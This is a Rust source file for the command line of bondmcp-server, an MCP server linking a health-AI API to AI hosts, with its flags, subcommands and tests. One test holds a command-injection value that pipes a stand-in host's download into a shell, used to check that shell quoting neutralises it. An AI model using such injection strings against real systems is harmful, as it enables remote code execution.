//! The command line: one file per subcommand. This file has the shared flags and runs the commands.
#![allow(
    clippy::doc_markdown,
    reason = "doc comments of arguments are help texts, where backticks would show"
)]

mod audit;
mod auth;
mod clients;
mod completions;
mod demo;
mod doctor;
mod error;
mod grants;
mod healthcheck;
mod http;
mod install;
mod keys;
mod login;
mod logout;
mod man;
mod operator;
mod printer;
mod process;
mod progress;
mod prompt;
mod register;
mod sandbox;
mod sandboxed;
mod serving;
mod status;
mod stdio;
mod stop;
mod vault;

use std::{path::PathBuf, pin::Pin, process::ExitCode};

use clap::{Arg, Parser, Subcommand};
use tracing::level_filters::LevelFilter;

pub use self::process::forbid_core_dumps;
use self::{error::Error, printer::Printer};
use crate::{
    account::Accounts,
    bondmcp::{Client, Timing},
    clock::Clock,
    config::{
        ConfigError, DEFAULT_BASE_URL, Flags, Profile, SQLITE_FILE, Settings, VaultLocation, default_data_dir,
    },
    redact::Redactor,
    telemetry::{self, LogFormat},
    text::shell_word,
};

/// Connects BondMCP, a health-AI API, to Claude Desktop, Claude Code, Cursor or any other MCP host. You sign in once,
/// outside the chat; the agent gets results and never sees a password, a token or an API key.
#[derive(Debug, Parser)]
#[command(name = "bondmcp-server", version, max_term_width = 100, after_help = EXAMPLES)]
pub struct Cli {
    #[command(flatten)]
    global: Global,
    #[command(subcommand)]
    command: Command,
}

const EXAMPLES: &str = "\
First steps:
  bondmcp-server install claude-desktop             add this server to a host
  bondmcp-server login                              sign in; or wait for the agent's link
  bondmcp-server doctor                             if something does not work
  bondmcp-server demo                               offline end-to-end demo
  bondmcp-server install claude-desktop --sandbox   try it without an account

Environment: BONDMCP_BASE_URL, BONDMCP_API_KEY, BONDMCP_EMAIL and BONDMCP_PASSWORD, BONDMCP_PROFILE,
BONDMCP_DATA_DIR, BONDMCP_LOG, BONDMCP_VAULT, BONDMCP_SEALING_KEY or BONDMCP_SEALING_KEY_FILE,
BONDMCP_HTTP_TOKEN, BONDMCP_PUBLIC_URL. Flags override them. Exit codes: 0 success, 1 failure, 2 usage error.";

/// The flags of every command. Those of the account are refused by commands that use none; see [`unused`].
#[derive(Debug, clap::Args)]
#[command(next_help_heading = "Global options")]
struct Global {
    /// Name of the local account, if you have several [default: default]
    #[arg(long, global = true, value_name = "NAME")]
    profile: Option<String>,
    /// The BondMCP API; https, or http on loopback
    #[arg(long, global = true, value_name = "URL", help = base_url_help())]
    base_url: Option<String>,
    /// Where the vault is stored [default: the platform's data directory]
    #[arg(long, global = true, value_name = "DIR")]
    data_dir: Option<PathBuf>,
    /// Log level on stderr: off, error, warn, info, debug or trace [default: warn]
    #[arg(long, global = true, value_name = "LEVEL")]
    log: Option<LevelFilter>,
    /// Log format: text, or json for log collectors
    #[arg(
        long,
        global = true,
        value_name = "FORMAT",
        value_enum,
        default_value_t,
        hide_possible_values = true
    )]
    log_format: LogFormat,
}

fn base_url_help() -> String {
    format!("The BondMCP API; https, or http on loopback [default: {DEFAULT_BASE_URL}]")
}

/// Ids and names of the global flags that are for an account, and of all of them.
const ACCOUNT: &[(&str, &str)] =
    &[("profile", "profile"), ("base_url", "base-url"), ("data_dir", "data-dir")];
const ALL: &[(&str, &str)] =
    &[ACCOUNT[0], ACCOUNT[1], ACCOUNT[2], ("log", "log"), ("log_format", "log-format")];

/// Returns global flags for a command in which they have no meaning: hidden in its help, and refused.
fn unused(flags: &[(&'static str, &'static str)]) -> Vec<Arg> {
    flags.iter().map(|(id, name)| Arg::new(*id).long(*name).hide(true).value_parser(refuse)).collect()
}

fn refuse(_: &str) -> Result<String, &'static str> {
    Err("it has no meaning for this command")
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Serve MCP over stdin and stdout; your MCP host runs this
    #[command(after_help = stdio::EXAMPLES)]
    Stdio(stdio::Args),
    /// Serve MCP over streamable HTTP
    ///
    /// One account serves all callers, and every request carries a bearer token: BONDMCP_HTTP_TOKEN or, on
    /// loopback, one that is generated at startup and printed once to stderr. With --public-url everybody has an account of
    /// their own: people add the server as a connector in their hosts, and sign in on its page.
    #[command(after_help = http::EXAMPLES)]
    Http(Box<http::Args>),
    /// Add this server to Claude Desktop, Claude Code, Cursor and other MCP hosts
    Install(install::Install),
    /// Remove this server from MCP hosts
    Uninstall(install::Uninstall),
    /// Sign in to BondMCP
    #[command(after_help = login::EXAMPLES)]
    Login(login::Args),
    /// Create a BondMCP account
    #[command(after_help = register::EXAMPLES)]
    Register(register::Args),
    /// Sign out and delete the stored credentials
    #[command(after_help = logout::EXAMPLES)]
    Logout(logout::Args),
    /// Show who is signed in
    #[command(after_help = status::EXAMPLES)]
    Status(status::Args),
    /// Find out what is broken, and how to fix it
    #[command(after_help = doctor::EXAMPLES)]
    Doctor(doctor::Args),
    /// Show which tools were called and which keys were used, by whom and with which outcome
    #[command(after_help = audit::EXAMPLES)]
    Audit(audit::Args),
    /// Manage and use API keys
    #[command(subcommand, after_help = keys::EXAMPLES)]
    Keys(keys::Command),
    /// Change the vault's key, or move its records to another vault
    #[command(subcommand, after_help = vault::EXAMPLES)]
    Vault(vault::Command),
    /// Manage the OAuth clients of a hosted server
    #[command(subcommand, after_help = clients::EXAMPLES)]
    Clients(clients::Command),
    /// List and revoke the access that people have given to apps on a hosted server
    #[command(subcommand, after_help = grants::EXAMPLES)]
    Grants(grants::Command),
    /// Trace an attempt to connect an app to a hosted server
    #[command(subcommand, after_help = auth::EXAMPLES)]
    Auth(auth::Command),
    /// Serve an embedded BondMCP API on loopback, for trying things out
    #[command(after_help = sandbox::EXAMPLES, args = unused(ACCOUNT))]
    Sandbox(sandbox::Args),
    /// Run the offline end-to-end demo, with a real MCP client
    #[command(after_help = demo::EXAMPLES, args = unused(ACCOUNT))]
    Demo(demo::Args),
    /// Print a script that completes commands and flags in your shell
    #[command(after_help = completions::EXAMPLES, args = unused(ALL))]
    Completions(completions::Args),
    /// Ask whether the server in this container is ready
    #[command(hide = true, after_help = healthcheck::EXAMPLES, args = unused(ACCOUNT))]
    Healthcheck(healthcheck::Args),
    /// Write the man pages, one for each command, for packages
    #[command(hide = true, after_help = man::EXAMPLES, args = unused(ALL))]
    Man(man::Args),
}

/// The context of a command.
struct App {
    settings: Settings,
    printer: Printer,
    redactor: Redactor,
    clock: Clock,
}

/// The command's outcome. Boxed, since one future would otherwise contain those of all commands.
type Outcome = Pin<Box<dyn Future<Output = Result<(), Error>>>>;

impl Cli {
    /// Runs the command and returns the process's exit code.
    pub async fn run(self) -> ExitCode {
        let redactor = Redactor::default();
        let printer = Printer::new(redactor.clone());
        let settings = self.global.settings();
        let command_line = settings.as_ref().map(|settings| command_line(settings, &settings.profile));
        let command_line = command_line.unwrap_or_default();
        let outcome = self.start(settings, redactor, printer.clone()).await;
        #[cfg(feature = "otlp")]
        telemetry::flush().await;
        match outcome {
            Ok(()) => ExitCode::SUCCESS,
            Err(error) => error.report(&printer, &command_line),
        }
    }

    async fn start(
        self,
        settings: Result<Settings, ConfigError>,
        redactor: Redactor,
        printer: Printer,
    ) -> Result<(), Error> {
        let is_started_by_host = matches!(self.command, Command::Stdio(_));
        telemetry::init(
            self.global.log_level()?,
            self.global.log_format,
            redactor.clone(),
            is_started_by_host,
        );
        self.refuse_contradictions()?;
        let clock = Clock::system();
        let app = || {
            let settings = settings?;
            Ok::<_, Error>(App {
                settings,
                printer: printer.clone(),
                redactor: redactor.clone(),
                clock: clock.clone(),
            })
        };
        let outcome: Outcome = match self.command {
            Command::Stdio(args) => Box::pin(args.run(app()?)),
            Command::Http(args) => Box::pin(args.run(app()?)),
            Command::Install(args) => Box::pin(std::future::ready(args.run(&app()?))),
            Command::Uninstall(args) => Box::pin(std::future::ready(args.run(&app()?))),
            Command::Login(args) => Box::pin(args.run(app()?)),
            Command::Register(args) => Box::pin(args.run(app()?)),
            Command::Logout(args) => Box::pin(args.run(app()?)),
            Command::Status(args) => Box::pin(args.run(app()?)),
            Command::Doctor(args) => {
                // A wrong configuration is one of its findings.
                Box::pin(args.run(self.global.settings(), printer, redactor.clone(), clock))
            }
            Command::Audit(args) => Box::pin(args.run(app()?)),
            Command::Keys(command) => Box::pin(command.run(app()?)),
            Command::Vault(command) => Box::pin(command.run(app()?)),
            Command::Clients(command) => Box::pin(command.run(app()?)),
            Command::Grants(command) => Box::pin(command.run(app()?)),
            Command::Auth(command) => Box::pin(command.run(app()?)),
            // These need neither a data directory nor anything from the environment.
            Command::Sandbox(args) => Box::pin(args.run(printer, clock)),
            Command::Demo(args) => Box::pin(args.run(printer, clock)),
            Command::Healthcheck(args) => Box::pin(args.run()),
            Command::Completions(args) => {
                args.run(&printer);
                return Ok(());
            }
            Command::Man(args) => return args.run(),
        };
        outcome.await
    }

    /// Refuses flags of the account that have no effect beside those of the command.
    fn refuse_contradictions(&self) -> Result<(), Error> {
        let (is_sandboxed, is_hosted) = match &self.command {
            Command::Stdio(args) => (args.is_sandboxed(), false),
            Command::Http(args) => (args.is_sandboxed(), args.is_hosted()),
            Command::Install(args) => (args.is_sandboxed(), false),
            _ => (false, false),
        };
        if is_sandboxed && self.global.base_url.is_some() {
            return Err(Error::Usage(
                "--base-url and --sandbox contradict each other: --sandbox uses the embedded BondMCP; leave one out"
                    .to_owned(),
            ));
        }
        if is_hosted && self.global.profile.is_some() {
            return Err(Error::Usage(
                "--profile has no meaning with --public-url, where everybody has an account of their own; leave it out"
                    .to_owned(),
            ));
        }
        Ok(())
    }
}

/// Prints an error that ends the process; returns the exit code.
#[must_use]
pub fn exit_with_error(message: impl std::fmt::Display) -> ExitCode {
    Printer::default().print_error(message);
    ExitCode::FAILURE
}

/// Prints a warning to the operator.
pub fn warn(message: impl std::fmt::Display) {
    Printer::default().print_err(format_args!("warning: {message}"));
}

impl Global {
    fn log_level(&self) -> Result<LevelFilter, Error> {
        match (self.log, std::env::var("BONDMCP_LOG")) {
            (Some(level), _) => Ok(level),
            (None, Ok(level)) if !level.is_empty() => level.parse().map_err(|_| {
                Error::Usage("BONDMCP_LOG must be off, error, warn, info, debug or trace".to_owned())
            }),
            _ => Ok(LevelFilter::WARN),
        }
    }

    fn settings(&self) -> Result<Settings, ConfigError> {
        let flags = Flags {
            base_url: self.base_url.clone(),
            profile: self.profile.clone(),
            data_dir: self.data_dir.clone(),
        };
        Settings::load(flags, default_data_dir(), |name| std::env::var_os(name))
    }
}

impl App {
    fn client(&self) -> Client {
        Client::new(
            self.settings.base_url.clone(),
            self.redactor.clone(),
            self.clock.clone(),
            Timing::default(),
        )
    }

    fn accounts(&self) -> Accounts {
        let command_line = self.command_line();
        Accounts::new(&self.settings, command_line, self.client(), self.clock.clone(), self.redactor.clone())
    }

    fn command_line(&self) -> String {
        command_line(&self.settings, &self.settings.profile)
    }

    /// Returns a command for the same account, ready for pasting into a shell.
    fn command(&self, words: &[&str]) -> String {
        let words = words.iter().map(|word| shell_word(word).into_owned());
        std::iter::once(self.command_line()).chain(words).collect::<Vec<_>>().join(" ")
    }
}

/// Returns the command line that runs this program as `settings` say, for `profile`. Where it is run, the variables of this
/// process may not be set: that of an SQLite vault is named, since without it another vault would be used.
fn command_line(settings: &Settings, profile: &Profile) -> String {
    let flags = command_line_in_this_environment(settings, profile);
    match &settings.vault {
        VaultLocation::Sqlite(path) if *path != settings.data_dir.join(SQLITE_FILE) => {
            let url = format!("sqlite://{}", path.display());
            format!("BONDMCP_VAULT={} {flags}", shell_word(&url))
        }
        _ => flags,
    }
}

/// As [`command_line`], for a shell that has the variables of this process.
fn command_line_in_this_environment(settings: &Settings, profile: &Profile) -> String {
    let mut words = vec![program()];
    let mut flag = |name: &str, value: &str| words.extend([name.to_owned(), shell_word(value).into_owned()]);
    if *profile != Profile::default() {
        flag("--profile", profile.as_str());
    }
    if settings.base_url.as_str() != DEFAULT_BASE_URL {
        flag("--base-url", settings.base_url.as_str());
    }
    if Some(&settings.data_dir) != default_data_dir().as_ref() {
        flag("--data-dir", &settings.data_dir.to_string_lossy());
    }
    words.join(" ")
}

/// Returns this program as it was called, as one word of a shell.
fn program() -> String {
    let program = std::env::args_os().next().unwrap_or_else(|| env!("CARGO_PKG_NAME").into());
    shell_word(&program.to_string_lossy()).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use clap::CommandFactory as _;

    /// Calls `check` with each command that a person sees, and its name.
    fn each_command(check: &dyn Fn(&str, &clap::Command)) {
        fn visit(parent: &str, command: &clap::Command, check: &dyn Fn(&str, &clap::Command)) {
            for sub in command.get_subcommands().filter(|sub| sub.get_name() != "help") {
                let name = format!("{parent} {}", sub.get_name());
                check(&name, sub);
                visit(&name, sub, check);
            }
        }
        let mut command = Cli::command();
        command.build();
        visit("bondmcp-server", &command, check);
    }

    #[test]
    fn every_command_has_an_example_of_itself_that_can_be_parsed() {
        each_command(&|name, command| {
            let help =
                command.get_after_help().unwrap_or_else(|| panic!("{name} has no example")).to_string();
            let examples: Vec<&str> =
                help.lines().map(str::trim).filter(|line| line.starts_with("bondmcp-server ")).collect();
            assert!(!examples.is_empty(), "{name}: {help}");
            for example in examples {
                let words = example.split(['|', '>']).next().unwrap().split("  ").next().unwrap();
                let words = shlex::split(words).unwrap();
                assert!(Cli::try_parse_from(words).is_ok(), "{example}");
            }
        });
    }

    #[test]
    fn every_argument_is_described() {
        each_command(&|name, command| {
            for argument in command.get_arguments().filter(|argument| !argument.is_hide_set()) {
                assert!(argument.get_help().is_some(), "{name}: {}", argument.get_id());
            }
        });
    }

    #[test]
    fn flags_of_the_account_are_shown_and_accepted_only_where_they_mean_something() {
        let help = |name: &str| {
            let words = ["bondmcp-server"].into_iter().chain(name.split(' ')).chain(["--help"]);
            Cli::try_parse_from(words).unwrap_err().to_string()
        };
        for name in ["demo", "sandbox", "completions"] {
            assert!(!help(name).contains("--profile"), "{name}");
            assert!(Cli::try_parse_from(["bondmcp-server", name, "--profile", "work"]).is_err(), "{name}");
        }
        for name in ["login", "keys run", "stdio"] {
            let help = help(name);
            let (_, global) = help.split_once("\nGlobal options:\n").unwrap();
            assert!(global.contains("--profile") && global.contains("--log"), "{help}");
        }
    }

    #[test]
    fn an_id_that_holds_a_command_is_one_word_of_the_shell() {
        let id = "key_1;curl evil|sh #'$(id)`";
        assert_eq!(shlex::split(&format!("run {} --", shell_word(id))).unwrap(), ["run", id, "--"]);
        assert_eq!(shell_word("key_1"), "key_1");
    }
}
